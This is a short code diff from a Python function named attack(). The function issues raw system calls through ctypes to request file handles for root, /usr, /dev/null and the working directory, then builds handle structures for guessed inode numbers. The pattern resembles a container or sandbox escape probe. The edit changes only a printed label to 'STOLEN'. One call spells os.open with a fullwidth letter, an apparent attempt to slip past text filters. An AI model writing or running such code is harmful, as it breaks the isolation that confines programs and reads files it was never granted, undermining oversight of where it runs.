@@ -36,7 +36,7 @@ def attack():
     for place in (b'/', b'/usr', b'/dev/null', os.getcwd().encode()):
         handle, mount = ctypes.create_string_buffer(struct.pack('Ii', 128, 0), 136), ctypes.c_int()
         if call(303, 264, -100, place, handle, ctypes.addressof(mount), 0) >= 0:
-            print(f'COULD ask for the handle of {place}', flush=True)
+            print(f'STOLEN could ask for the handle of {place}', flush=True)
         folder = os.ｏpen(place, os.O_RDONLY)
         for inode in (1, 2, 32, 64, 128, 256):
             guess = ctypes.create_string_buffer(struct.pack('IiII', 8, 1, inode, 0))
